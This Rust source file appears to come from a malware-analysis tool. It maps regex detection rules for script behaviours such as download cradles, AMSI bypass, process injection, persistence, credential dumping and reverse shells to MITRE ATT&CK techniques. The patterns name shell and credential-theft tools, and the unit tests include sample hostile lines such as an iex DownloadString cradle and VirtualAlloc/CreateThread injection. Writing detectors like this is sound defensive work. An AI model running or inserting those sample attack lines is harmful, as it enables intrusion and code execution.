//! Behaviour rules: regex evidence mapped to MITRE ATT&CK techniques and tactics, with the
//! exact line that shows each behaviour.

use std::sync::LazyLock;

use regex::Regex;

use crate::types::{Behaviour, Layer};

struct Rule {
    name: &'static str,
    technique: &'static str,
    tactic: &'static str,
    weight: u32,
    /// Every pattern must match somewhere; the evidence is the first pattern's line.
    all: Vec<Regex>,
}

fn rule(
    name: &'static str,
    technique: &'static str,
    tactic: &'static str,
    weight: u32,
    pats: &[&str],
) -> Rule {
    Rule {
        name,
        technique,
        tactic,
        weight,
        all: pats.iter().map(|p| Regex::new(p).expect("invariant: static regex")).collect(),
    }
}

static RULES: LazyLock<Vec<Rule>> = LazyLock::new(|| {
    vec![
        rule(
            "download cradle",
            "T1105",
            "command-and-control",
            30,
            &[
                r"(?i)\.(DownloadString|DownloadFile|DownloadData|OpenRead)\s*\(|\b(Invoke-WebRequest|Invoke-RestMethod|Start-BitsTransfer)\b|\b(iwr|irm)\s+['\x22(]?h|WinHttp\.WinHttpRequest|MSXML2\.(Server)?XMLHTTP|\b(curl|wget)\b[^\n|]*\bhttps?://|certutil[^\n]*-urlcache|bitsadmin[^\n]*/transfer",
            ],
        ),
        rule(
            "in-memory execution via Invoke-Expression",
            "T1059.001",
            "execution",
            15,
            &[
                r"(?i)\b(iex|invoke-expression)\b|\|\s*&\s*\(|\bInvokeScript\s*\(|\[scriptblock\]::create",
            ],
        ),
        rule(
            "PowerShell launched with encoded command",
            "T1027.010",
            "defense-evasion",
            20,
            &[r"(?i)\b(powershell|pwsh)(\.exe)?\b[^\n]*\s[-/](e|ec|en[a-z]*)\s+[A-Za-z0-9+/=]{8,}"],
        ),
        rule(
            "hidden window",
            "T1564.003",
            "defense-evasion",
            10,
            &[
                r"(?i)\s[-/]w(i(n(d(o(w(s(t(y(le?)?)?)?)?)?)?)?)?)?\s+h(i(d(d(en?)?)?)?)?\b|WindowStyle\s*=?\s*['\x22]?Hidden|\.Settings\.Hidden\s*=\s*\$true",
            ],
        ),
        rule(
            "execution policy bypass",
            "T1059.001",
            "execution",
            5,
            &[
                r"(?i)\s[-/](ep|ex(e(c(u(t(i(o(n(p(o(l(i(cy?)?)?)?)?)?)?)?)?)?)?)?)?)\s+(bypass|unrestricted)\b",
            ],
        ),
        rule(
            "AMSI bypass",
            "T1562.001",
            "defense-evasion",
            45,
            &[r"(?i)AmsiUtils|amsiInitFailed|AmsiScanBuffer|amsi\.dll|amsiContext|AmsiOpenSession"],
        ),
        rule(
            "ETW bypass",
            "T1562.006",
            "defense-evasion",
            40,
            &[r"(?i)EtwEventWrite|PSEtwLogProvider|etwProvider|EventProvider[^\n]*m_enabled"],
        ),
        rule(
            "reflective code loading",
            "T1620",
            "defense-evasion",
            35,
            &[
                r"(?i)\[(System\.)?Reflection\.Assembly\]::Load|Assembly\]::Load(File)?\s*\(|GetDelegateForFunctionPointer|DefineDynamicAssembly|Invoke-ReflectivePEInjection|\.EntryPoint\.Invoke",
            ],
        ),
        rule(
            "shellcode injection (VirtualAlloc + thread)",
            "T1055",
            "defense-evasion",
            50,
            &[
                r"(?i)VirtualAlloc(Ex)?",
                r"(?i)CreateThread|CreateRemoteThread|QueueUserAPC|NtCreateThreadEx|EnumSystemLocales|CallWindowProc",
            ],
        ),
        rule(
            "process memory write",
            "T1055",
            "privilege-escalation",
            30,
            &[
                r"(?i)WriteProcessMemory|NtWriteVirtualMemory|RtlMoveMemory|\bmemset\b|Marshal\]::Copy",
            ],
        ),
        rule(
            "native API via P/Invoke",
            "T1106",
            "execution",
            10,
            &[r"(?i)DllImport|Add-Type\b[^\n]*-MemberDefinition|GetProcAddress"],
        ),
        rule(
            "persistence: Run key",
            "T1547.001",
            "persistence",
            35,
            &[
                r"(?i)CurrentVersion\\+Run(Once)?\b",
                r"(?i)Set-ItemProperty|New-ItemProperty|\bsp\s|reg(\.exe)?\s+add|RegWrite|SetValue|\bgp\b|Get-ItemProperty",
            ],
        ),
        rule(
            "persistence: scheduled task",
            "T1053.005",
            "persistence",
            35,
            &[
                r"(?i)\bschtasks\b|Register-ScheduledTask|New-ScheduledTask|Schedule\.Service|RegisterTaskDefinition",
            ],
        ),
        rule(
            "persistence: WMI event subscription",
            "T1546.003",
            "persistence",
            40,
            &[
                r"(?i)__EventFilter|CommandLineEventConsumer|ActiveScriptEventConsumer|__FilterToConsumerBinding",
            ],
        ),
        rule(
            "persistence: service",
            "T1543.003",
            "persistence",
            30,
            &[r"(?i)\bNew-Service\b|\bsc(\.exe)?\s+create\b"],
        ),
        rule(
            "persistence: startup folder",
            "T1547.001",
            "persistence",
            30,
            &[
                r"(?i)Start Menu\\+Programs\\+Startup|shell:startup|\[Environment\]::GetFolderPath\(['\x22]?Startup",
            ],
        ),
        rule(
            "credential dumping",
            "T1003.001",
            "credential-access",
            50,
            &[
                r"(?i)mimikatz|sekurlsa|Invoke-Mimikatz|\blsass\b|MiniDumpWriteDump|comsvcs(\.dll)?[^\n]*MiniDump",
            ],
        ),
        rule(
            "credential harvesting",
            "T1555",
            "credential-access",
            30,
            &[
                r"(?i)Get-Credential|PromptForCredential|Login Data|logins\.json|CredEnumerate|vaultcmd|Get-GPPPassword",
            ],
        ),
        rule(
            "keylogging",
            "T1056.001",
            "collection",
            40,
            &[r"(?i)GetAsyncKeyState|GetKeyboardState|SetWindowsHookEx|keylogger"],
        ),
        rule(
            "screen capture",
            "T1113",
            "collection",
            25,
            &[r"(?i)CopyFromScreen|Get-TimedScreenshot|\bscreenshot\b"],
        ),
        rule(
            "security tool tampering",
            "T1562.001",
            "defense-evasion",
            40,
            &[
                r"(?i)Set-MpPreference|DisableRealtimeMonitoring|Add-MpPreference[^\n]*Exclusion|UninstallString|Stop-Service[^\n]*(WinDefend|Sense)|netsh\s+advfirewall\s+set[^\n]*off",
            ],
        ),
        rule(
            "log clearing",
            "T1070.001",
            "defense-evasion",
            35,
            &[r"(?i)wevtutil(\.exe)?\s+cl\b|Clear-EventLog|Remove-EventLog"],
        ),
        rule(
            "file deletion of traces",
            "T1070.004",
            "defense-evasion",
            10,
            &[
                r"(?i)Remove-Item[^\n]*(\$MyInvocation|\.xml|\.ps1|\.vbs|Temp)|\bdel\s+%0|\brm\s+-(rf|f)\s+\$0",
            ],
        ),
        rule(
            "system discovery",
            "T1082",
            "discovery",
            5,
            &[
                r"(?i)\bsysteminfo\b|Win32_ComputerSystem|Win32_OperatingSystem|\[IntPtr\]::Size|\$env:(username|computername|userdomain|processor_architecture)|\bwhoami\b|\bhostname\b|\buname\s+-a",
            ],
        ),
        rule(
            "network discovery",
            "T1016",
            "discovery",
            5,
            &[r"(?i)\bipconfig\b|Get-NetIPAddress|\barp\s+-a\b|\bnetstat\b|\bifconfig\b"],
        ),
        rule(
            "DNS TXT command and control",
            "T1071.004",
            "command-and-control",
            35,
            &[r"(?i)nslookup[^\n]*(-q(uerytype)?=txt|-type=txt)|Resolve-DnsName[^\n]*-Type\s+TXT"],
        ),
        rule(
            "web protocol command and control",
            "T1071.001",
            "command-and-control",
            10,
            &[r"(?i)User-Agent|Headers\.Add|\.Proxy\s*=|DefaultWebProxy|GetSystemWebProxy"],
        ),
        rule(
            "reverse or bind shell",
            "T1059",
            "execution",
            50,
            &[
                r"(?i)Net\.Sockets\.TCPClient|Net\.Sockets\.TcpListener|/dev/tcp/|\bnc(at)?\b[^\n]*\s-e\s|\bbash\s+-i\b|reverse_(tcp|http|https)|Invoke-Shellcode|Invoke-PowerShellTcp",
            ],
        ),
        rule(
            "lateral movement (remote execution)",
            "T1021.006",
            "lateral-movement",
            35,
            &[
                r"(?i)Invoke-Command\s+-ComputerName|Enter-PSSession|New-PSSession|\bpsexec\b|wmic[^\n]*/node:|Invoke-WmiMethod[^\n]*-ComputerName|Invoke-SMBExec|Invoke-WMIExec",
            ],
        ),
        rule(
            "exfiltration over web",
            "T1041",
            "exfiltration",
            30,
            &[
                r"(?i)\.Upload(String|File|Data)\s*\(|Invoke-RestMethod[^\n]*-Method\s+Post|Send-MailMessage|curl[^\n]*(-F|--data|-d)\s",
            ],
        ),
        rule(
            "execution of a dropped file",
            "T1204.002",
            "execution",
            15,
            &[
                r"(?i)\b(Start-Process|Invoke-Item|start|saps|ii)\b[^\n;]*\.(exe|scr|bat|vbs|js|dll|cmd)\b|\(\s*['\x22]?\$env:\w+\\[^\n)]*\.exe|Start-Process\s+\$\w+|\bstart\s+\$\w+|\.ShellExecute\(|WScript\.Shell[^\n]*\.Run|\.Run\s+\w+,\s*0",
            ],
        ),
        rule(
            "signed binary proxy execution",
            "T1218",
            "defense-evasion",
            45,
            &[
                r"(?i)regsvr32[^\n]*/i:\s*https?|\bmshta(\.exe)?\s+['\x22]?(https?|vbscript|javascript):|rundll32[^\n]*(javascript:|https?://|url\.dll)",
            ],
        ),
        rule(
            "payload decoded at run time",
            "T1140",
            "defense-evasion",
            10,
            &[
                r"(?i)FromBase64String|certutil[^\n]*-decode|base64\s+(-d|--decode)|atob\s*\(|b64decode|-bxor|StrReverse|unescape\s*\(",
            ],
        ),
        rule(
            "compressed payload",
            "T1027.015",
            "defense-evasion",
            10,
            &[r"(?i)GzipStream|DeflateStream|zlib\.decompress|gunzip|IO\.Compression"],
        ),
        rule(
            "command shell execution",
            "T1059.003",
            "execution",
            5,
            &[r"(?i)\bcmd(\.exe)?\s+/[ck]\b"],
        ),
        rule(
            "Unix shell execution",
            "T1059.004",
            "execution",
            10,
            &[r"\|\s*(ba|z|da)?sh\b|\bsh\s+-c\b"],
        ),
        rule(
            "Windows Script Host / COM execution",
            "T1059.005",
            "execution",
            15,
            &[
                r"(?i)WScript\.Shell|Shell\.Application|CreateObject\s*\(\s*['\x22]WScript|new\s+ActiveXObject",
            ],
        ),
        rule(
            "Office macro auto-execution",
            "T1204.002",
            "execution",
            20,
            &[r"(?i)\b(AutoOpen|Document_Open|Workbook_Open|Auto_Open)\b"],
        ),
        rule(
            "sandbox evasion by sleeping",
            "T1497.003",
            "defense-evasion",
            3,
            &[r"(?i)Start-Sleep|\bsleep\s+\d{2,}|timeout\s+/t\s+\d{2,}"],
        ),
        rule(
            "proxy credential reuse",
            "T1090",
            "command-and-control",
            5,
            &[r"(?i)DefaultNetworkCredentials|DefaultCredentials|UseDefaultCredentials"],
        ),
    ]
});

const MAX_EVIDENCE: usize = 240;

fn evidence_window(line: &str, start: usize, end: usize) -> String {
    let t = line.trim();
    if t.len() <= MAX_EVIDENCE {
        return t.to_string();
    }
    let mut a = start.saturating_sub(80);
    while a > 0 && !line.is_char_boundary(a) {
        a -= 1;
    }
    let mut b = (end + 120).min(line.len()).max(a);
    while b < line.len() && !line.is_char_boundary(b) {
        b += 1;
    }
    let mut s = String::new();
    if a > 0 {
        s.push_str("...");
    }
    s.push_str(line[a..b].trim());
    if b < line.len() {
        s.push_str("...");
    }
    s
}

/// Finds behaviours in the layers (deepest layer first), one entry per rule.
pub(crate) fn detect(layers: &[Layer]) -> Vec<Behaviour> {
    let mut out = Vec::new();
    let texts: Vec<(usize, &str)> =
        layers.iter().rev().map(|l| (l.depth, crate::decode::cut(&l.text, 4 << 20))).collect();
    for r in RULES.iter() {
        // Every pattern must match in some layer; report the first pattern's first line.
        if !r.all.iter().all(|p| texts.iter().any(|(_, t)| p.is_match(t))) {
            continue;
        }
        let Some(first) = r.all.first() else { continue };
        'found: for (depth, t) in &texts {
            for (i, line) in t.lines().enumerate() {
                if let Some(m) = first.find(line) {
                    out.push(Behaviour {
                        name: r.name.to_string(),
                        attack_technique: r.technique.to_string(),
                        tactic: r.tactic.to_string(),
                        evidence_line: evidence_window(line, m.start(), m.end()),
                        layer: *depth,
                        line_number: i + 1,
                        weight: r.weight,
                    });
                    break 'found;
                }
            }
        }
    }
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::types::Language;

    fn layer(t: &str) -> Vec<Layer> {
        vec![Layer {
            depth: 0,
            technique: "input".into(),
            language: Language::PowerShell,
            text: t.into(),
            truncated: false,
        }]
    }

    #[test]
    fn download_cradle_and_amsi() {
        let b = detect(&layer(
            "$x=1\n[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')\niex (New-Object Net.WebClient).DownloadString('http://a.b/c')",
        ));
        let d = b.iter().find(|x| x.name == "download cradle").unwrap();
        assert_eq!(d.line_number, 3);
        assert_eq!(d.attack_technique, "T1105");
        let a = b.iter().find(|x| x.name == "AMSI bypass").unwrap();
        assert_eq!(a.line_number, 2);
        assert_eq!(a.tactic, "defense-evasion");
    }

    #[test]
    fn injection_needs_both_parts() {
        assert!(detect(&layer("VirtualAlloc only")).iter().all(|x| x.attack_technique != "T1055"));
        assert!(
            detect(&layer("$w::VirtualAlloc(0,1,0x3000,0x40);$w::CreateThread(0,0,$x,0,0,0)"))
                .iter()
                .any(|x| x.attack_technique == "T1055")
        );
    }
}
